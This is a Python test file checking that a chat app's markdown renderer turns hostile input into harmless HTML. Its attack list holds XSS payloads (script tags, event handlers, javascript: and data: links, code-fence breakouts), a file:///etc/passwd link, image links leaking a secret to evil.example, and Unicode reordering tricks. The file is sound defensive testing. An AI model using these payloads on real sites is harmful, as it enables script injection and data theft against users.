"""What a hostile answer must not do to a page."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from channels_app.markdown import markdown_render

# What rendering may produce; everything else in this list of attacks must have become text.
HARMLESS = {
    *("a", "blockquote", "br", "code", "div", "em", "h2", "h3", "hr", "img", "li", "ol", "p"),
    *("pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{display:none}</style>",
    "<form action=/signout/><button>x</button></form>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](  javascript:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example/)",
    "[x](/admin/)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x](https://evil.example/a.png "onerror=alert(1)")',
    "[ref]\n\n[ref]: javascript:alert(1)",
    "![ref]\n\n[ref]: https://evil.example/p.png",
    '[x](https://a.example/"onmouseover="alert(1))',
    '```" onload="alert(1)\ncode\n```',
    "```python class=evil\n</code></pre><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "[x](https://a.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E)",
    "https://a.example/\"onmouseover='alert(1)'",
    "<!-- --><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "![a](/signout/)",
    "![a](/chat/attachments/../../signout/)",
    "* " * 500 + "<script>",
    "> " * 500 + "<script>",
    "[" * 3000 + "](javascript:alert(1))",
]


class _Tags(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in _Tags(html).found:
        assert tag in HARMLESS, tag
        for name, value in attributes.items():
            assert name in {
                "href",
                "src",
                "alt",
                "class",
                "rel",
                "target",
                "title",
                "start",
                "tabindex",
                "data-language",
            }
            if name == "href":
                assert re.match(r"https?://|mailto:", value or "", re.IGNORECASE)
            if name == "src":
                assert re.fullmatch(r"/chat/attachments/\w{26}/", value or "")


def test_it_works() -> None:
    html = markdown_render("**bold** and `code`")

    assert html == "<p><strong>bold</strong> and <code>code</code></p>\n"


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_is_harmless(attack: str) -> None:
    assert_harmless(markdown_render(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack_inside_other_marks_is_harmless(attack: str) -> None:
    assert_harmless(markdown_render(f"- **a {attack}**\n\n> {attack}\n\n# {attack}"))


@given(st.text(alphabet="<>[]()!`*_~|\\/:\"'=&;#-.\n\t javscriptonhref0", max_size=120))
def test_no_text_breaks_out(text: str) -> None:
    assert_harmless(markdown_render(text))


def test_remote_image_becomes_a_link_that_nobody_loads() -> None:
    html = markdown_render("![the chart](https://evil.example/?q=secret)")

    assert "<img" not in html
    assert '<a href="https://evil.example/?q=secret"' in html
    assert ">the chart</a>" in html


def test_stored_image_is_shown() -> None:
    path = "/chat/attachments/01JD0000000000000000000000/"

    assert f'<img src="{path}" alt="plot">' in markdown_render(f"![plot]({path})")


def test_links_give_nothing_away() -> None:
    html = markdown_render("https://a.example/x. and [y](https://b.example)")

    assert html.count('rel="noopener noreferrer nofollow"') == 2
    assert '<a href="https://a.example/x"' in html


@pytest.mark.parametrize("trick", ["\u202e", "\u2066", "\u2069", "\U000e0041"])
def test_reordering_characters_are_spelled_out(trick: str) -> None:
    html = markdown_render(f"pay {trick}gpj.exe `{trick}`")

    assert trick not in html
    assert html.count(f"[U+{ord(trick):04X}]") == 2


def test_reordering_characters_by_entity_are_harmless_text() -> None:
    assert "\u202e" not in markdown_render("pay &#x202e;gpj.exe")


def test_marks_of_right_to_left_text_stay() -> None:
    assert "\u200f" in markdown_render("שלום\u200f!")


def test_very_long_text_comes_back_plain() -> None:
    html = markdown_render("<b>*x*\n" * 60_000)

    assert html.startswith('<div class="code"><pre tabindex="0"><code>&lt;b&gt;*x*')


def test_code_is_coloured_and_tables_are_aligned() -> None:
    html = markdown_render("```python\ndef f(): pass\n```\n\n|a|\n|-:|\n|1|")

    assert '<span class="k">def</span>' in html
    assert '<td class="right">1</td>' in html
    assert "style=" not in html
